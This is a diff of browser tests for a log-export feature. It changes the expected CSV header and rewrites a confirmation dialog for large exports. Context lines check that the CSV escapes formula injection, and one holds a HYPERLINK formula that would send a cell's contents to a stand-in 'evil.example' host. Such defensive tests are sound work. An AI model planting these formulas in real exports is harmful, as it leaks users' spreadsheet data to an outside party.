@@ -35,7 +35,9 @@ test.describe('as root', () => {
       const files = followDownloads(page)
       await startExport(page, 'Table (CSV)')
       const text = (await readDownload(files)).text
-      expect(text.startsWith('\uFEFFTime,Channel,User,Token,Type,Model,Prompt,Completion,')).toBe(true)
+      expect(
+        text.startsWith('\uFEFFTime,Channel,Channel name,User,Token,Type,Model,Prompt,Completion,'),
+      ).toBe(true)
       expect(text).toContain('"\'=HYPERLINK(""https://evil.example/?""&A1,""x"")"')
       expect(text).toContain("'-2+3")
       expect(text).toContain("'@SUM(1)")
@@ -103,15 +105,14 @@ test('log export: a session that ends meanwhile is ended as by any other call', 
 test.describe('of a long log', () => {
   test.use({ caller: 'root', seed: 'large' })
 
-  test('log export: says beforehand how long it takes, and offers a shorter range that is read at once', async ({
+  test('log export: asks before it reads many entries, and offers a shorter range that is read at once', async ({
     page,
     world,
   }) => {
     await page.goto('/log')
     await expect(page.getByText(/^Consumed in this filter: \$/)).toBeVisible()
     await startExport(page, 'JSON lines')
-    const question = page.getByRole('dialog', { name: /^Export about [\d,]+ entries\?$/ })
-    await expect(question).toContainText(/This takes \d+ calls and about \d+ minutes/)
+    const question = page.getByRole('dialog', { name: 'Export more than 1,200 entries?' })
     await world.forgetCalls()
     const files = followDownloads(page)
     await question.getByRole('button', { name: /^Only since .*, at once$/ }).click()
